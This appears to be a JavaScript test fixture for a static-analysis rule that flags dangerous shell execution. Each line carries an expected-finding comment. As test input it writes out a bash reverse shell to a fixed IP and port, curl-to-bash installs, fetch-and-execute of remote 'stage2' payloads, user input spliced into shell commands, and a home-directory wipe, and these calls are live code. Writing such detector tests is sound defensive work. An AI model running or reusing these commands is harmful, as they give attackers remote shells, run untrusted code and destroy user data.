const { exec, spawn } = require('child_process');
const https = require('https');

exec('curl -fsSL https://get.example.sh/install | bash');       // want "SV101: .*pipes a download into a shell"
exec('curl ' + process.argv[2] + ' | sh');                        // want "SV101: .*pipes a download"
spawn('bash', ['-c', `echo ${process.argv[2]}`]);                 // want "high SV101: .*splices user input"
spawn('sh', ['-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1']);   // want "SV101: .*reverse shell"

https.get('https://cdn.example.net/stage2.txt', (res) => {
  let body = '';
  res.on('data', (c) => { body += c; });
  res.on('end', () => exec(body));                                // want "SV101: .*network download"
});

async function stage() {
  const r = await fetch('https://cdn.example.net/cmd');
  const cmd = await r.text();
  require('child_process').execSync(cmd);                         // want "SV101: .*network download"
}
stage();
exec('rm -rf ~ --no-preserve-root');                              // want "SV101: .*wipes the home"
exec('rm -rf ./build && mkdir build');                            // want "SV101: .*constant shell command"
